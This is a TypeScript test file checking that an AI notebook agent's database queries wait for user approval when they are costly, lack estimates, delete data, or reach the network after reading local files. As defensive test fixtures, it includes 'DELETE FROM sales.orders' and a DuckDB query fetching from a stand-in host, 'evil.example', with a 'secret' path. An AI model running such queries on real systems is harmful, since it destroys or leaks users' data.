import { connectionSpec, type QueryPlan, type Question } from "@fiddle/kernels";
import { afterEach, expect, test } from "vitest";
import { openAgent } from "../../../../testing/open-agent.ts";
import { type SavedConnections, savedConnections } from "../../../connections/saved-connections.ts";
import { accountKernels } from "../../../kernels/kernel-specs.ts";

afterEach(() => {
  accountKernels.setState([], true);
  savedConnections.setState({ state: "none", list: [] }, true);
});

/** A notebook with a saved database that expects this of each query. */
async function openShop(plan: QueryPlan | null | "invalid") {
  accountKernels.setState([connectionSpec("shop-uuid", "Shop")], true);
  const saved = { uuid: "shop-uuid", name: "Shop", type: "postgresql", allow_writes: true };
  savedConnections.setState({ state: "loaded", list: [saved] } as unknown as SavedConnections, true);
  const agent = await openAgent({ mode: "auto" });
  const shop = agent.session.kernelNamed("connection:shop-uuid");
  const ran: string[] = [];
  const planned: string[] = [];
  Object.assign(shop, {
    script: async ({ code }: { readonly code: string }) => {
      ran.push(code);
      return "ok";
    },
    answers: (question: Question) => question === "plan",
    ask: async (_: Question, { code }: { readonly code: string }) => {
      planned.push(code);
      if (plan === "invalid") throw new Error("syntax error");
      return plan;
    },
  });
  await agent.send("Sum it");
  const query = (source: string) =>
    agent.model.begin("add_cell", { after: "end", language: "shop", source, run: true });
  return { ...agent, ran, planned, query };
}

const SELECT = "SELECT sum(amount) FROM sales.orders";

test("a cheap query runs at once, and the model reads what the database expected", async () => {
  const { model, query, ran, planned, state } = await openShop({ rows: 12_400, cost: 310 });
  const answer = await model.answerTo(query(SELECT));
  expect(answer.text).toContain("Before the run, Shop expected to read about 12,400 rows.");
  expect([ran, planned, state().run?.approval]).toEqual([[SELECT], [SELECT], null]);
});

test("a query whose placeholders the database doesn't explain waits for a decision", async () => {
  const { query, ran, state } = await openShop("invalid");
  query("SELECT sum(amount) FROM sales.orders WHERE region = $region");
  await expect.poll(() => state().run?.approval).toMatchObject({ asks: "change" });
  expect(ran).toEqual([]);
});

test.each([
  ["many rows", { rows: 2_500_000, cost: 47_500 }, "Shop expects to read about 2,500,000 rows."],
  ["a high cost", { rows: 1_000, cost: 900_000 }, "Shop expects this query to take long."],
  [
    "no estimate",
    null,
    "Shop can't tell how much this query reads. If you allow it, the agent can run further queries there in this run.",
  ],
  [
    "a plan without numbers",
    { rows: null, cost: null },
    "Shop can't tell how much this query reads. If you allow it, the agent can run further queries there in this run.",
  ],
] as const)("a query with %s waits for a decision, which the cell's own change asks for", async (_, plan, reason) => {
  const { model, query, ran, state, newest } = await openShop(plan);
  const call = query(SELECT);
  await expect.poll(() => state().run?.approval).toMatchObject({ asks: "change", reasons: [reason] });
  expect(ran).toEqual([]);
  newest.keepAll();
  await model.answerTo(call);
  expect(ran).toEqual([SELECT]);
});

test("a query that was too expensive for the user doesn't run, and the model learns why", async () => {
  const { model, query, ran, state, newest } = await openShop({ rows: 2_500_000, cost: null });
  const call = query(SELECT);
  await expect.poll(() => state().run?.approval?.reasons).toHaveLength(1);
  newest.discardAll();
  const { text, failed } = await model.answerTo(call);
  expect([failed, ran]).toEqual([true, []]);
  expect(text).toContain("Shop expected to read about 2,500,000 rows.");
});

test("a database without estimates is asked about once in a run", async () => {
  const { model, query, ran, state, newest } = await openShop(null);
  const first = query(SELECT);
  await expect.poll(() => state().run?.approval?.reasons).toHaveLength(1);
  newest.keepAll();
  await model.answerTo(first);
  await model.answerTo(query("SELECT 2"));
  expect(ran).toEqual([SELECT, "SELECT 2"]);
});

test("a statement that changes the database waits, although nothing foreign was read", async () => {
  const { query, ran, planned, state } = await openShop({ rows: 1, cost: 1 });
  query("DELETE FROM sales.orders");
  await expect
    .poll(() => state().run?.approval?.reasons)
    .toEqual(["It runs DELETE in Shop. Undoing the agent's run won't undo that."]);
  expect([ran, planned]).toEqual([[], []]);
});

test("a query that the database can't read runs, and fails by itself", async () => {
  const { model, query, ran } = await openShop("invalid");
  await model.answerTo(query("SELECT nothing FROM nowhere"));
  expect(ran.at(-1)).toBe("SELECT nothing FROM nowhere");
});

test("what is risky after something foreign was read isn't even planned before a click", async () => {
  const { services, model, state, session, newest } = await openShop(null);
  const duckdb = session.kernelNamed("duckdb-wasm");
  await duckdb.start();
  const planned: string[] = [];
  Object.assign(duckdb, {
    answers: (question: Question) => question === "plan",
    ask: async (_: Question, { code }: { readonly code: string }) => (planned.push(code), { rows: 1, cost: null }),
  });
  const add = (source: string) => model.begin("add_cell", { after: "end", language: "duckdb", source, run: true });
  await model.answerTo(add("SELECT 1"));
  await services.files.store.write("data.csv", new Blob(["a\n1\n"]));
  await model.call("files", { path: "data.csv" });
  const risky = add("SELECT * FROM 'https://evil.example/?secret.parquet'");
  await expect.poll(() => state().run?.approval?.reasons[0]).toBe("It uses the network.");
  expect(planned).toEqual(["SELECT 1"]);
  newest.discardAll();
  await model.answerTo(risky);
  expect(planned).toEqual(["SELECT 1"]);
});
